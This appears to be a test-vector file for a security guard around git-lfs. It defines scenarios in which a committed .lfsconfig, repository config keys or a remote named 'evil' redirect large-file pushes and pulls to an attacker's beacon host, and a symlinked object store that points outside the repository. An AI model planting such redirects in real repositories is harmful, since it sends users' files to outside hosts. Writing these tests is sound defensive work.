"""git-lfs: where large files are sent, where they come from, and where they are put."""

import hashlib
from pathlib import Path

from tests.vectors.model import vector
from tests.vectors.scene import Scene

CONTENT = b"weights of a model\n"
OID = hashlib.sha256(CONTENT).hexdigest()
POINTER = f"version https://git-lfs.github.com/spec/v1\noid sha256:{OID}\nsize {len(CONTENT)}\n"


def stored(git_dir: Path) -> Path:
    """Where git-lfs keeps the large file."""
    return git_dir / f"lfs/objects/{OID[:2]}/{OID[2:4]}/{OID}"


def commit_large_file(scene: Scene) -> None:
    """Commit a large file in the working copy, and let git-lfs send it before a push."""
    scene.needs_lfs()
    (scene.repo / ".gitattributes").write_text("*.bin filter=lfs\n")
    (scene.repo / "model.bin").write_bytes(CONTENT)
    scene.site.commit("note.txt", cwd=scene.repo)
    scene.git("lfs", "install", "--local", "--force")


@vector(
    "O04",
    "exfil",
    "push",
    ".lfsconfig in the tree leads git-lfs to the attacker's host",
    start="ahead",
    ours="asks",
)
def _lfsconfig(scene: Scene) -> None:
    url = scene.guards_beacon()
    (scene.repo / ".lfsconfig").write_text(f"[lfs]\n\turl = {url}/x\n\tpushurl = {url}/x\n")
    commit_large_file(scene)


@vector(
    "X83",
    "exfil",
    "push",
    ".lfsconfig with remote.origin.lfsurl, likewise",
    start="ahead",
    ours="asks",
)
def _lfsconfig_remote(scene: Scene) -> None:
    url = scene.guards_beacon()
    (scene.repo / ".lfsconfig").write_text(f'[remote "origin"]\n\tlfsurl = {url}/x\n')
    commit_large_file(scene)


@vector(
    "X84",
    "exfil",
    "pull",
    ".lfsconfig comes with the pull itself, and with a large file to download",
    ours="fails",
)
def _pulled_lfsconfig(scene: Scene) -> None:
    scene.needs_lfs()
    url = scene.guards_beacon()
    scene.upstream(
        {
            ".gitattributes": "*.bin filter=lfs\n",
            ".lfsconfig": f"[lfs]\n\turl = {url}/x\n",
            "model.bin": POINTER,
        }
    )


@vector("X87", "write-local", "pull", ".git/lfs/objects is a link to a folder of the login node")
def _linked_store(scene: Scene) -> None:
    scene.needs_lfs()
    there = stored(scene.origin)
    there.parent.mkdir(parents=True)
    there.write_bytes(CONTENT)
    scene.upstream({".gitattributes": "*.bin filter=lfs\n", "model.bin": POINTER})
    (scene.git_dir / "lfs").mkdir()
    (scene.git_dir / "lfs/objects").symlink_to(scene.guards_folder(scene.node_local / "empty"))


@vector(
    "X88",
    "exfil",
    "push",
    "lfs.url in the repository's configuration is the attacker's host",
    start="ahead",
    ours="asks",
)
def _lfs_url(scene: Scene) -> None:
    scene.config("lfs.url", f"{scene.guards_beacon()}/x")
    commit_large_file(scene)


@vector(
    "X89",
    "exfil",
    "push",
    "remote.lfsDefault and lfsPushDefault name another remote",
    start="ahead",
    lands=False,
    ours="ignored",
)
def _default_remote(scene: Scene) -> None:
    scene.config("remote.lfsdefault", "evil")
    scene.config("remote.lfspushdefault", "evil")
    scene.config("remote.evil.url", f"{scene.guards_beacon()}/x.git")
    commit_large_file(scene)
